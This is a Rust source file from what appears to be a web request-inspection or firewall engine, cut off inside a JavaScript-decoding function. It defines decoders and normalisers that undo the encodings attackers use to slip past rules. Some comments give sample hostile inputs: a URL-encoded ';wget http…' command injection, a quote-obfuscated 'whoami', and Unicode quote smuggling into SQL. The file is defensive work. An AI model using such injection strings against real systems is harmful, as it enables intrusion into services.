//! Transformations: the forms a value is inspected in.
//!
//! Every transformation is a pure function `&[u8] -> Cow<[u8]>` that returns the input
//! borrowed when (and only when) it has nothing to change, so a benign value usually costs one scan per
//! transformation and no allocation. Decoders are single pass and bounded: repeated decoding
//! is a separate, explicitly bounded transformation ([`Transform::UrlDecodeMulti`]).

use std::borrow::Cow;
use std::fmt;

use base64::Engine as _;

/// How many times [`Transform::UrlDecodeMulti`] decodes at most (`%252527` needs three).
pub const MAX_DECODE_PASSES: usize = 4;

/// One transformation step. Names are the snake_case strings used in rule files.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Transform {
    /// `%XX` and `%uXXXX` decoded once; malformed escapes kept as they are. (`+` is left
    /// alone: arguments are form-decoded already, and elsewhere `+` is a plus.)
    UrlDecode,
    /// [`Transform::UrlDecode`] repeated until nothing changes, at most [`MAX_DECODE_PASSES`].
    UrlDecodeMulti,
    /// HTML character references: named (`&lt;`), decimal (`&#60;`), hex (`&#x3c;`), with or
    /// without the trailing `;`, with any number of leading zeros.
    HtmlDecode,
    /// JavaScript escapes: `\xHH`, `\uHHHH`, `\u{H…}`, octal `\NNN`, `\n`…, `\c` → `c`.
    JsDecode,
    /// CSS escapes: `\H…` (1–6 hex digits, one trailing space eaten), `\c` → `c`.
    CssDecode,
    /// Overlong UTF-8 forms of ASCII decoded, full-width forms (U+FF01–FF5E) and odd spaces
    /// mapped to ASCII. Other bytes, valid or not, are kept.
    Utf8Normalize,
    /// NUL bytes removed.
    RemoveNulls,
    /// ASCII lowercase.
    Lowercase,
    /// Runs of whitespace (and NUL) become one space.
    CompressWhitespace,
    /// All whitespace removed.
    RemoveWhitespace,
    /// `/* … */` becomes a space (MySQL `/*! … */` keeps its content); `--` and `#` comments
    /// to the end of the line become a space.
    ReplaceComments,
    /// The comment markers `/*`, `*/`, `--` and `#` removed, content kept.
    RemoveCommentChars,
    /// Path normalised: `\` → `/`, `//` → `/`, `./` dropped, `x/../` resolved.
    NormalizePath,
    /// Base64 runs (16 or more characters) decoded and joined by spaces; the value itself
    /// when there are none.
    Base64Decode,
    /// Shell command-line normalisation: `\ " ' ^` removed, `,` and `;` become spaces,
    /// spaces before `/` and `(` removed, whitespace compressed (matching is case-insensitive).
    CmdLine,
    /// Shell quoting undone and nothing else: `\` and `^` removed, quotes removed in pairs
    /// within a word (an apostrophe alone, `I'd`, stays), and `$@` / `$*` (which expand to
    /// nothing), so `w\ho'am'i` reads `whoami`; separators and whitespace stay, for rules
    /// that need the `;` or the line break in front of a command.
    ShellUnquote,
    /// Leading and trailing whitespace removed.
    Trim,
}

impl Transform {
    /// Every transformation, for documentation and tests.
    pub const ALL: [Transform; 17] = [
        Transform::UrlDecode,
        Transform::UrlDecodeMulti,
        Transform::HtmlDecode,
        Transform::JsDecode,
        Transform::CssDecode,
        Transform::Utf8Normalize,
        Transform::RemoveNulls,
        Transform::Lowercase,
        Transform::CompressWhitespace,
        Transform::RemoveWhitespace,
        Transform::ReplaceComments,
        Transform::RemoveCommentChars,
        Transform::NormalizePath,
        Transform::Base64Decode,
        Transform::CmdLine,
        Transform::ShellUnquote,
        Transform::Trim,
    ];

    /// The rule-file name.
    pub fn as_str(self) -> &'static str {
        match self {
            Transform::UrlDecode => "url_decode",
            Transform::UrlDecodeMulti => "url_decode_multi",
            Transform::HtmlDecode => "html_decode",
            Transform::JsDecode => "js_decode",
            Transform::CssDecode => "css_decode",
            Transform::Utf8Normalize => "utf8_normalize",
            Transform::RemoveNulls => "remove_nulls",
            Transform::Lowercase => "lowercase",
            Transform::CompressWhitespace => "compress_whitespace",
            Transform::RemoveWhitespace => "remove_whitespace",
            Transform::ReplaceComments => "replace_comments",
            Transform::RemoveCommentChars => "remove_comment_chars",
            Transform::NormalizePath => "normalize_path",
            Transform::Base64Decode => "base64_decode",
            Transform::CmdLine => "cmdline",
            Transform::ShellUnquote => "shell_unquote",
            Transform::Trim => "trim",
        }
    }

    /// Parses a rule-file name.
    pub fn parse(s: &str) -> Option<Transform> {
        Transform::ALL.into_iter().find(|t| t.as_str() == s)
    }

    /// Applies the transformation.
    pub fn apply(self, input: &[u8]) -> Cow<'_, [u8]> {
        match self {
            Transform::UrlDecode => url_decode(input),
            Transform::UrlDecodeMulti => url_decode_multi(input),
            Transform::HtmlDecode => html_decode(input),
            Transform::JsDecode => js_decode(input),
            Transform::CssDecode => css_decode(input),
            Transform::Utf8Normalize => utf8_normalize(input),
            Transform::RemoveNulls => remove_nulls(input),
            Transform::Lowercase => lowercase(input),
            Transform::CompressWhitespace => compress_whitespace(input),
            Transform::RemoveWhitespace => remove_whitespace(input),
            Transform::ReplaceComments => replace_comments(input),
            Transform::RemoveCommentChars => remove_comment_chars(input),
            Transform::NormalizePath => normalize_path(input),
            Transform::Base64Decode => base64_decode(input),
            Transform::CmdLine => cmdline(input),
            Transform::ShellUnquote => shell_unquote(input),
            Transform::Trim => trim(input),
        }
    }
}

impl fmt::Display for Transform {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Which bytes (and byte pairs) a value holds, computed in one table-driven pass, so that
/// transformations that cannot change it are skipped without scanning it again.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Features(u32);

impl Features {
    /// No feature (the value of `Features::default()`, usable in constants).
    pub const NONE: Features = Features(0);
}

/// Per-byte feature bits.
// Evaluated at compile time: an out-of-range index would be a build error, not a panic.
#[allow(clippy::indexing_slicing)]
static BYTE_FEATURES: [u32; 256] = {
    let mut t = [0u32; 256];
    t[b'%' as usize] = Features::PCT;
    t[b'&' as usize] = Features::AMP;
    t[b'\\' as usize] = Features::BSLASH;
    t[0] = Features::NUL;
    t[b'\t' as usize] = Features::WS_OTHER;
    t[b'\n' as usize] = Features::WS_OTHER;
    t[b'\r' as usize] = Features::WS_OTHER;
    t[0x0b] = Features::WS_OTHER;
    t[0x0c] = Features::WS_OTHER;
    t[b'#' as usize] = Features::HASH;
    t[b'"' as usize] = Features::SHELL | Features::SHELL_QUOTE;
    t[b'\'' as usize] = Features::SHELL | Features::SHELL_QUOTE;
    t[b'^' as usize] = Features::SHELL | Features::SHELL_QUOTE;
    t[b',' as usize] = Features::SHELL;
    t[b';' as usize] = Features::SHELL;
    t[b'$' as usize] = Features::SHELL | Features::SHELL_QUOTE;
    t[b' ' as usize] = Features::SPACE | pair_class(1);
    t[b'/' as usize] = pair_class(2);
    t[b'(' as usize] = pair_class(3);
    t[b'*' as usize] = pair_class(4);
    t[b'-' as usize] = pair_class(5);
    t[b'.' as usize] = pair_class(6);
    // UTF-8 lead bytes `utf8_normalize` acts on: overlong forms, no-break space, full-width
    // and ideographic forms, mathematical letters and digits. Other non-ASCII text (é, ß,
    // 日本) is left alone.
    t[0xc0] = Features::UTF8_SUSPECT;
    t[0xc1] = Features::UTF8_SUSPECT;
    // C2 only before A0 (no-break space): `«`, `°`, `£` are left alone.
    t[0xc2] = pair_class(7);
    // A0 also alone: Latin-1's no-break space, when no UTF-8 sequence holds it (checked
    // after the pass, see `Features::LOOK_CLOSER`).
    t[0xa0] = pair_class(8) | Features::LOOK_CLOSER;
    // E2 only before 81, 82 (super- and subscript digits, `⁄`), 88 and A7 (`∕`, `∖`, `⧸`,
    // `⧵`) and 91–93 (enclosed letters and digits): curly quotes, dashes and `€` are left
    // alone.
    t[0xe2] = pair_class(9);
    t[0x81] = pair_class(10);
    t[0x82] = pair_class(10);
    t[0x91] = pair_class(10);
    t[0x92] = pair_class(10);
    t[0x93] = pair_class(10);
    t[0x88] = pair_class(10);
    t[0xa7] = pair_class(10);
    // E2 also looked at closer (`Features::LOOK_CLOSER`): a prime `′` `″` (E2 80 B2/B3/B5/B6)
    // is a quote to a database that converts to a code page.
    t[0xe2] |= Features::LOOK_CLOSER;
    // CA and CB lead the spacing modifier letters: `ʼ` `ʹ` `ʺ` `ˈ` are quotes to SQL Server's
    // conversion to a code page ("SQL smuggling"); the rest (IPA, `ʻ`) is rare in text.
    t[0xca] = Features::UTF8_SUSPECT;
    t[0xcb] = Features::UTF8_SUSPECT;
    t[0xe0] = Features::UTF8_SUSPECT;
    t[0xe3] = Features::UTF8_SUSPECT;
    t[0xef] = Features::UTF8_SUSPECT;
    t[0xf0] = Features::UTF8_SUSPECT;
    let mut b = 0;
    while b < 256 {
        let c = b as u8;
        if c.is_ascii_alphanumeric() || c == b'+' || c == b'/' || c == b'-' || c == b'_' {
            t[b] |= Features::B64_CHAR;
        }
        if c.is_ascii_uppercase() {
            t[b] |= Features::UPPER;
        }
        b += 1;
    }
    t
};

/// Values at least this long take [`Features::of_long`]: below it, the substring searches'
/// fixed costs outweigh what the simpler per-byte pass saves.
const LONG_FEATURES_MIN: usize = 160;

/// [`BYTE_FEATURES`] for [`Features::of_long`]: the same feature bits, and instead of a pair
/// class, one bit (20–29) per byte that is half of a pair of interest.
// Evaluated at compile time: an out-of-range index would be a build error, not a panic.
#[allow(clippy::indexing_slicing)]
static LONG_FEATURES: [u32; 256] = {
    let mut t = [0u32; 256];
    let mut b = 0;
    while b < 256 {
        t[b] = BYTE_FEATURES[b] & !Features::PAIR_CLASS;
        b += 1;
    }
    t[b' ' as usize] |= ROLE_SPACE;
    t[b'/' as usize] |= ROLE_SLASH;
    t[b'(' as usize] |= ROLE_PAREN;
    t[b'*' as usize] |= ROLE_STAR;
    t[b'-' as usize] |= ROLE_DASH;
    t[b'.' as usize] |= ROLE_DOT;
    t[0xc2] |= ROLE_C2;
    t[0xa0] |= ROLE_A0;
    t[0xe2] |= ROLE_E2;
    t[0x81] |= ROLE_E2_NEXT;
    t[0x82] |= ROLE_E2_NEXT;
    t[0x91] |= ROLE_E2_NEXT;
    t[0x92] |= ROLE_E2_NEXT;
    t[0x93] |= ROLE_E2_NEXT;
    t[0x88] |= ROLE_E2_NEXT;
    t[0xa7] |= ROLE_E2_NEXT;
    t
};
const ROLE_SPACE: u32 = 1 << 20;
const ROLE_SLASH: u32 = 1 << 21;
const ROLE_PAREN: u32 = 1 << 22;
const ROLE_STAR: u32 = 1 << 23;
const ROLE_DASH: u32 = 1 << 24;
const ROLE_DOT: u32 = 1 << 25;
const ROLE_C2: u32 = 1 << 26;
const ROLE_A0: u32 = 1 << 27;
const ROLE_E2: u32 = 1 << 28;
const ROLE_E2_NEXT: u32 = 1 << 29;
const LONG_ROLES: u32 = 0x3ff << 20;

/// The pairs of [`PAIR_FEATURES`] as (roles of the first byte, roles of which the second
/// byte has one, feature), in the order of [`pair_finders`]' needles.
const LONG_PAIRS: [(u32, u32, u32); 8] = [
    (ROLE_SPACE, ROLE_SPACE, Features::DOUBLE_SPACE),
    (
        ROLE_SPACE,
        ROLE_SLASH | ROLE_PAREN,
        Features::SPACE_SLASH_PAREN,
    ),
    (ROLE_SLASH, ROLE_STAR, Features::SLASH_STAR),
    (ROLE_DASH, ROLE_DASH, Features::DASH_DASH),
    (ROLE_SLASH, ROLE_SLASH, Features::DOUBLE_SLASH),
    (ROLE_SLASH, ROLE_DOT, Features::SLASH_DOT),
    (ROLE_C2, ROLE_A0, Features::UTF8_SUSPECT),
    (ROLE_E2, ROLE_E2_NEXT, Features::UTF8_SUSPECT),
];

/// The substrings each of [`LONG_PAIRS`] stands for, built once.
fn pair_finders() -> &'static [Vec<memchr::memmem::Finder<'static>>] {
    static FINDERS: std::sync::OnceLock<Vec<Vec<memchr::memmem::Finder<'static>>>> =
        std::sync::OnceLock::new();
    FINDERS.get_or_init(|| {
        let needles: [&[&'static [u8]]; 8] = [
            &[b"  "],
            &[b" /", b" ("],
            &[b"/*", b"*/"],
            &[b"--"],
            &[b"//"],
            &[b"/."],
            &[b"\xc2\xa0"],
            &[
                b"\xe2\x81",
                b"\xe2\x82",
                b"\xe2\x91",
                b"\xe2\x92",
                b"\xe2\x93",
                b"\xe2\x88",
                b"\xe2\xa7",
            ],
        ];
        needles
            .iter()
            .map(|n| n.iter().map(memchr::memmem::Finder::new).collect())
            .collect()
    })
}

/// Whether the run of base64 characters that holds `v[at..at + 8]` (all of them base64
/// characters) is 16 or more long.
fn b64_run_around(v: &[u8], at: usize) -> bool {
    let b64 = |b: &u8| {
        LONG_FEATURES
            .get(usize::from(*b))
            .is_some_and(|t| t & Features::B64_CHAR != 0)
    };
    let before = v
        .get(..at)
        .map_or(0, |h| h.iter().rev().take_while(|b| b64(b)).count());
    let after = v
        .get(at..)
        .map_or(0, |t| t.iter().take_while(|b| b64(b)).count());
    before + after >= 16
}

/// A byte's class as half of a pair of interest (0: none), kept in bits 20–23 of its
/// [`BYTE_FEATURES`] entry.
const fn pair_class(c: u32) -> u32 {
    c << 20
}

/// Feature bits of a pair of bytes, indexed by `(class of the first << 4) | class of the
/// second`.
// Evaluated at compile time: an out-of-range index would be a build error, not a panic.
#[allow(clippy::indexing_slicing)]
static PAIR_FEATURES: [u32; 256] = {
    let mut t = [0u32; 256];
    const SPACE: usize = 1;
    const SLASH: usize = 2;
    const PAREN: usize = 3;
    const STAR: usize = 4;
    const DASH: usize = 5;
    const DOT: usize = 6;
    const C2: usize = 7;
    const A0: usize = 8;
    const E2: usize = 9;
    const E2_NEXT: usize = 10;
    t[SPACE << 4 | SPACE] = Features::DOUBLE_SPACE;
    t[SPACE << 4 | SLASH] = Features::SPACE_SLASH_PAREN;
    t[SPACE << 4 | PAREN] = Features::SPACE_SLASH_PAREN;
    t[SLASH << 4 | STAR] = Features::SLASH_STAR;
    t[STAR << 4 | SLASH] = Features::SLASH_STAR;
    t[DASH << 4 | DASH] = Features::DASH_DASH;
    t[SLASH << 4 | SLASH] = Features::DOUBLE_SLASH;
    t[SLASH << 4 | DOT] = Features::SLASH_DOT;
    t[C2 << 4 | A0] = Features::UTF8_SUSPECT;
    t[E2 << 4 | E2_NEXT] = Features::UTF8_SUSPECT;
    t
};

impl Features {
    const PCT: u32 = 1;
    const AMP: u32 = 1 << 1;
    const BSLASH: u32 = 1 << 2;
    const UTF8_SUSPECT: u32 = 1 << 3;
    const NUL: u32 = 1 << 4;
    const WS_OTHER: u32 = 1 << 5;
    const SPACE: u32 = 1 << 6;
    const DOUBLE_SPACE: u32 = 1 << 7;
    const SPACE_SLASH_PAREN: u32 = 1 << 8;
    const HASH: u32 = 1 << 9;
    const SLASH_STAR: u32 = 1 << 10;
    const DASH_DASH: u32 = 1 << 11;
    const DOUBLE_SLASH: u32 = 1 << 12;
    const SLASH_DOT: u32 = 1 << 13;
    const LEADING_DOT: u32 = 1 << 14;
    const SHELL: u32 = 1 << 15;
    /// An ASCII capital letter (what `lowercase` changes).
    const UPPER: u32 = 1 << 16;
    const EDGE_WS: u32 = 1 << 17;
    /// A run of 16 or more base64 characters ([`Features::has_b64_run`]).
    const B64_RUN: u32 = 1 << 18;
    /// A quote, a caret or a `$` (what `shell_unquote` may remove, with `\\`).
    const SHELL_QUOTE: u32 = 1 << 19;
    /// Internal: a base64 character.
    const B64_CHAR: u32 = 1 << 30;
    /// Internal: a byte 0xA0 or 0xE2. When no other byte made the value `UTF8_SUSPECT`, each
    /// 0xA0 is looked at with the bytes before it to learn whether it stands alone (Latin-1's
    /// no-break space, which `utf8_normalize` makes a space) or inside a character (`à`, `Р`,
    /// many CJK ones): [`has_lone_a0`]; and each 0xE2 with the bytes after it, for a prime
    /// (curly quotes and dashes are left alone): [`has_prime`].
    const LOOK_CLOSER: u32 = 1 << 31;
    /// Internal: a byte's pair class (see [`pair_class`]).
    const PAIR_CLASS: u32 = 0xf << 20;

    /// Scans a value once: per byte, two table lookups and no branch. (Kept out of line: its
    /// loop then has registers enough for every variable.) A long value takes
    /// [`Features::of_long`].
    #[inline(never)]
    pub fn of(v: &[u8]) -> Features {
        if v.len() >= LONG_FEATURES_MIN {
            return Self::of_long(v);
        }
        Self::of_short(v)
    }

    /// See [`Features::of`].
    #[inline(always)]
    fn of_short(v: &[u8]) -> Features {
        let mut f = 0u32;
        let mut prev = 0usize;
        let mut run = 0u32;
        let mut longest = 0u32;
        for &b in v {
            #[allow(clippy::indexing_slicing)] // a u8 always indexes a 256-entry table
            let t = BYTE_FEATURES[usize::from(b)];
            let class = ((t & Self::PAIR_CLASS) >> 20) as usize;
            #[allow(clippy::indexing_slicing)] // two 4-bit classes index a 256-entry table
            let pair = PAIR_FEATURES[(prev << 4 | class) & 0xff];
            f |= t | pair;
            prev = class;
            // (A mask, not a product: the compiler made the product a branch that word
            // boundaries mispredicted. `run` cannot wrap: it counts bytes of one value.)
            run = run.wrapping_add(1) & ((t >> 30) & 1).wrapping_neg();
            longest = longest.max(run);
        }
        if longest >= 16 {
            f |= Self::B64_RUN;
        }
        if v.first() == Some(&b'.') {
            f |= Self::LEADING_DOT;
        }
        let edge = |b: Option<&u8>| b.is_some_and(|&b| is_space(b));
        if edge(v.first()) || edge(v.last()) {
            f |= Self::EDGE_WS;
        }
        Features(Self::lone_a0(f, v) & !(Self::PAIR_CLASS | Self::B64_CHAR))
    }

    /// `f` with `UTF8_SUSPECT` when the value's only change under `utf8_normalize` can be
    /// a lone 0xA0 or a prime and it has one; without `LOOK_CLOSER`.
    fn lone_a0(f: u32, v: &[u8]) -> u32 {
        let look = f & (Self::LOOK_CLOSER | Self::UTF8_SUSPECT) == Self::LOOK_CLOSER;
        let f = f & !Self::LOOK_CLOSER;
        if look && (has_lone_a0(v) || has_prime(v)) {
            return f | Self::UTF8_SUSPECT;
        }
        f
    }

    /// [`Features::of`] for a long value, in three cheaper passes than one that tracks pairs
    /// and runs at every byte:
    /// 1. per 8-byte block, the OR and the AND of the bytes' [`LONG_FEATURES`] entries: the
    ///    OR gives the single-byte features and which halves of the pairs of interest occur;
    ///    a block of base64 characters only (the AND) is where a run of 16 may be (every
    ///    such run covers a whole block), and is measured there;
    /// 2. each pair whose two halves both occur is looked for as a substring (SIMD);
    /// 3. the first and last bytes, as in [`Features::of`].
    ///
    /// The same result as [`Features::of`]'s loop (`long_features_match_the_short_scan`).
    #[inline(never)]
    fn of_long(v: &[u8]) -> Features {
        let (mut any, mut run) = (0u32, false);
        let mut blocks = v.chunks_exact(8);
        for (k, block) in blocks.by_ref().enumerate() {
            let mut all = u32::MAX;
            for &b in block {
                #[allow(clippy::indexing_slicing)] // a u8 always indexes a 256-entry table
                let t = LONG_FEATURES[usize::from(b)];
                any |= t;
                all &= t;
            }
            if all & Self::B64_CHAR != 0 && !run {
                run = b64_run_around(v, k * 8);
            }
        }
        for &b in blocks.remainder() {
            #[allow(clippy::indexing_slicing)] // a u8 always indexes a 256-entry table
            let t = LONG_FEATURES[usize::from(b)];
            any |= t;
        }
        let mut f = any & !(LONG_ROLES | Self::B64_CHAR);
        if run {
            f |= Self::B64_RUN;
        }
        let has = |roles: u32| any & roles == roles;
        let finders = pair_finders();
        for (i, &(first, second, feature)) in LONG_PAIRS.iter().enumerate() {
            if (f & feature) == 0 && has(first) && (any & second) != 0 {
                if let Some(finder) = finders.get(i) {
                    if finder.iter().any(|fd| fd.find(v).is_some()) {
                        f |= feature;
                    }
                }
            }
        }
        if v.first() == Some(&b'.') {
            f |= Self::LEADING_DOT;
        }
        let edge = |b: Option<&u8>| b.is_some_and(|&b| is_space(b));
        if edge(v.first()) || edge(v.last()) {
            f |= Self::EDGE_WS;
        }
        Features(Self::lone_a0(f, v))
    }

    /// Whether the value has a run of 16 or more base64 characters (what
    /// [`Transform::Base64Decode`] decodes).
    pub fn has_b64_run(v: &[u8]) -> bool {
        let mut run = 0usize;
        for &b in v {
            if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_') {
                run += 1;
                if run >= 16 {
                    return true;
                }
            } else {
                run = 0;
            }
        }
        false
    }

    fn any(self, mask: u32) -> bool {
        self.0 & mask != 0
    }
}

impl Transform {
    /// Whether the transformation can change a value with these features; when false,
    /// `apply` would return the value unchanged.
    pub fn may_change(self, f: Features) -> bool {
        f.any(self.change_mask())
    }

    /// The features under which the transformation may change a value (see
    /// [`Transform::may_change`]).
    pub fn change_mask(self) -> u32 {
        use Features as F;
        match self {
            Transform::UrlDecode | Transform::UrlDecodeMulti => F::PCT,
            Transform::HtmlDecode => F::AMP,
            Transform::JsDecode | Transform::CssDecode => F::BSLASH,
            Transform::Utf8Normalize => F::UTF8_SUSPECT,
            Transform::RemoveNulls => F::NUL,
            // (The engine never runs `lowercase`: it matches without case instead. The mask
            // still tells the truth, for the fuzz target's soundness check.)
            Transform::Lowercase => F::UPPER,
            Transform::CompressWhitespace => F::WS_OTHER | F::NUL | F::DOUBLE_SPACE,
            Transform::RemoveWhitespace => F::WS_OTHER | F::NUL | F::SPACE,
            Transform::ReplaceComments => F::SLASH_STAR | F::DASH_DASH | F::HASH,
            Transform::RemoveCommentChars => F::SLASH_STAR | F::DASH_DASH | F::HASH,
            Transform::NormalizePath => F::BSLASH | F::DOUBLE_SLASH | F::SLASH_DOT | F::LEADING_DOT,
            Transform::Base64Decode => F::B64_RUN,
            Transform::CmdLine => {
                F::BSLASH | F::SHELL | F::WS_OTHER | F::DOUBLE_SPACE | F::SPACE_SLASH_PAREN
            }
            Transform::ShellUnquote => F::BSLASH | F::SHELL_QUOTE,
            Transform::Trim => F::EDGE_WS,
        }
    }

    /// Whether the features hold any of `mask`.
    pub fn features_meet(f: Features, mask: u32) -> bool {
        f.any(mask)
    }
}

/// Applies `transforms` in order.
pub fn apply_all<'a>(transforms: &[Transform], input: &'a [u8]) -> Cow<'a, [u8]> {
    let mut cur: Cow<'a, [u8]> = Cow::Borrowed(input);
    for t in transforms {
        cur = match cur {
            Cow::Borrowed(b) => t.apply(b),
            Cow::Owned(o) => Cow::Owned(t.apply(&o).into_owned()),
        };
    }
    cur
}

// === helpers ===

pub(crate) fn hex_val(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn is_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c)
}

/// Appends a code point as UTF-8; invalid code points (surrogates, > U+10FFFF) become
/// U+FFFD so that the output is never more dangerous than the input.
fn push_char(out: &mut Vec<u8>, cp: u32) {
    let c = char::from_u32(cp).unwrap_or('\u{fffd}');
    let mut buf = [0u8; 4];
    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
}

/// Parses up to `max` hex digits starting at `s[0]`; returns (value, digits used).
fn hex_run(s: &[u8], max: usize) -> (u32, usize) {
    let mut v: u32 = 0;
    let mut n = 0;
    for &b in s.iter().take(max) {
        match hex_val(b) {
            Some(h) => {
                v = v.saturating_mul(16).saturating_add(u32::from(h));
                n += 1;
            }
            None => break,
        }
    }
    (v, n)
}

// === url ===

/// The escape at `rest` (just after a `%`): the code point and how many bytes after the `%`
/// it used, or `None` when `%` is literal there.
fn url_escape(rest: &[u8]) -> Option<(u32, usize)> {
    if let (Some(h), Some(l)) = (
        rest.first().copied().and_then(hex_val),
        rest.get(1).copied().and_then(hex_val),
    ) {
        return Some((u32::from(h << 4 | l), 2));
    }
    if matches!(rest.first(), Some(b'u' | b'U')) {
        let (v, n) = hex_run(rest.get(1..).unwrap_or_default(), 4);
        if n == 4 {
            return Some((v, 5));
        }
    }
    None
}

/// Decodes `%XX` and `%uXXXX` once, and where one decodes, `+` as a space. A value with no
/// valid escape is returned as it is (a lone `%` is text, a `+` a plus), without a copy.
pub fn url_decode(input: &[u8]) -> Cow<'_, [u8]> {
    // Is there an escape that decodes? If not, nothing is copied.
    let mut from = 0;
    loop {
        let Some(p) = input
            .get(from..)
            .and_then(|rest| memchr::memchr(b'%', rest))
            .map(|p| p + from)
        else {
            return Cow::Borrowed(input);
        };
        if url_escape(input.get(p + 1..).unwrap_or_default()).is_some() {
            break;
        }
        from = p + 1;
    }
    let mut out = Vec::with_capacity(input.len());
    // A value with escapes that decode was encoded as form data or a query as often as
    // not: its `+` is a space (`%3Bwget+http%3A%2F%2F…`). Only the `+` written as such (one
    // decoded from `%2B` stays a plus), and not where every escape is of a base64
    // character, the padding of base64 whose `+` are its own (`…zJ+AKrg%3D`).
    let plus = memchr::memchr(b'+', input).is_some()
        && memchr::memchr_iter(b'%', input).any(|p| {
            url_escape(input.get(p + 1..).unwrap_or_default())
                .is_some_and(|(cp, _)| !u8::try_from(cp).is_ok_and(is_base64_byte))
        });
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b == b'%' {
            if let Some((cp, used)) = url_escape(input.get(i + 1..).unwrap_or_default()) {
                if used == 2 {
                    // `%XX` is one byte, whatever it is (not a code point).
                    out.push(cp as u8);
                } else {
                    push_char(&mut out, cp);
                }
                i += 1 + used;
                continue;
            }
        }
        i = copy_to_next_percent_plus(input, i, &mut out, plus);
    }
    Cow::Owned(out)
}

/// Whether a byte is a character of base64 (either alphabet) or its padding.
pub(crate) fn is_base64_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')
}

/// [`copy_to_next_percent`], reading each `+` copied as a space when `plus`: for a value
/// whose escapes say it was form-encoded ([`url_decode`], the request path).
pub(crate) fn copy_to_next_percent_plus(
    input: &[u8],
    i: usize,
    out: &mut Vec<u8>,
    plus: bool,
) -> usize {
    let start = out.len();
    let next = copy_to_next_percent(input, i, out);
    if plus {
        if let Some(run) = out.get_mut(start..) {
            run.iter_mut()
                .filter(|b| **b == b'+')
                .for_each(|b| *b = b' ');
        }
    }
    next
}

/// Appends `input[i..]` up to (not including) the next `%` after `i` to `out`, in one copy;
/// returns that `%`'s index, or the length.
pub(crate) fn copy_to_next_percent(input: &[u8], i: usize, out: &mut Vec<u8>) -> usize {
    let next = input
        .get(i + 1..)
        .and_then(|rest| memchr::memchr(b'%', rest))
        .map_or(input.len(), |p| p + i + 1);
    out.extend_from_slice(input.get(i..next).unwrap_or_default());
    next
}

/// [`url_decode`] until stable, at most [`MAX_DECODE_PASSES`] times.
pub fn url_decode_multi(input: &[u8]) -> Cow<'_, [u8]> {
    let mut cur = url_decode(input);
    for _ in 1..MAX_DECODE_PASSES {
        // `url_decode` borrows exactly when nothing decodes: the value is stable.
        match url_decode(&cur) {
            Cow::Borrowed(_) => break,
            Cow::Owned(next) => cur = Cow::Owned(next),
        }
    }
    cur
}

// === html ===

const HTML_NAMED: &[(&[u8], &str)] = &[
    (b"lt", "<"),
    (b"gt", ">"),
    (b"amp", "&"),
    (b"quot", "\""),
    (b"apos", "'"),
    (b"nbsp", " "),
    (b"colon", ":"),
    (b"semi", ";"),
    (b"sol", "/"),
    (b"bsol", "\\"),
    (b"lpar", "("),
    (b"rpar", ")"),
    (b"lsqb", "["),
    (b"rsqb", "]"),
    (b"lbrack", "["),
    (b"rbrack", "]"),
    (b"lcub", "{"),
    (b"rcub", "}"),
    (b"lbrace", "{"),
    (b"rbrace", "}"),
    (b"tab", "\t"),
    (b"newline", "\n"),
    (b"excl", "!"),
    (b"num", "#"),
    (b"dollar", "$"),
    (b"percnt", "%"),
    (b"plus", "+"),
    (b"comma", ","),
    (b"period", "."),
    (b"equals", "="),
    (b"quest", "?"),
    (b"commat", "@"),
    (b"grave", "`"),
    (b"verbar", "|"),
    (b"vert", "|"),
    (b"ast", "*"),
    (b"midast", "*"),
    (b"lowbar", "_"),
    (b"hat", "^"),
    (b"tilde", "~"),
];

/// Decodes HTML character references.
pub fn html_decode(input: &[u8]) -> Cow<'_, [u8]> {
    let Some(first) = memchr::memchr(b'&', input) else {
        return Cow::Borrowed(input);
    };
    let mut out = Vec::with_capacity(input.len());
    out.extend_from_slice(input.get(..first).unwrap_or_default());
    let mut changed = false;
    let mut i = first;
    while let Some(&b) = input.get(i) {
        if b != b'&' {
            let next = input
                .get(i..)
                .and_then(|rest| memchr::memchr(b'&', rest))
                .map_or(input.len(), |p| p + i);
            out.extend_from_slice(input.get(i..next).unwrap_or_default());
            i = next;
            continue;
        }
        let rest = input.get(i + 1..).unwrap_or_default();
        if rest.first() == Some(&b'#') {
            let num = rest.get(1..).unwrap_or_default();
            let (v, n, used) = if matches!(num.first(), Some(b'x' | b'X')) {
                let (v, n) = hex_run(num.get(1..).unwrap_or_default(), 16);
                (v, n, n + 1)
            } else {
                let mut v: u32 = 0;
                let mut n = 0;
                for &d in num.iter().take(16) {
                    if d.is_ascii_digit() {
                        v = v.saturating_mul(10).saturating_add(u32::from(d - b'0'));
                        n += 1;
                    } else {
                        break;
                    }
                }
                (v, n, n)
            };
            if n > 0 {
                changed = true;
                push_char(&mut out, v);
                i += 2 + used;
                if input.get(i) == Some(&b';') {
                    i += 1;
                }
                continue;
            }
        } else {
            let name_len = rest
                .iter()
                .take(8)
                .take_while(|c| c.is_ascii_alphabetic())
                .count();
            let name = rest.get(..name_len).unwrap_or_default();
            // Longest known entity that prefixes the name (`&ltscript` is `<script`).
            let hit = HTML_NAMED
                .iter()
                .filter(|(n, _)| {
                    name.get(..n.len())
                        .is_some_and(|p| p.eq_ignore_ascii_case(n))
                })
                .max_by_key(|(n, _)| n.len());
            if let Some((n, s)) = hit {
                changed = true;
                out.extend_from_slice(s.as_bytes());
                i += 1 + n.len();
                if input.get(i) == Some(&b';') {
                    i += 1;
                }
                continue;
            }
        }
        out.push(b'&');
        i += 1;
    }
    if changed {
        Cow::Owned(out)
    } else {
        // Only `&`s that start no reference: the value is unchanged.
        Cow::Borrowed(input)
    }
}

// === js / css ===

/// Decodes JavaScript string escapes.
pub fn js_decode(input: &[u8]) -> Cow<'_, [u8]> {
    if !input.contains(&b'\\') {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while let Some(&b) = input.get(i) {
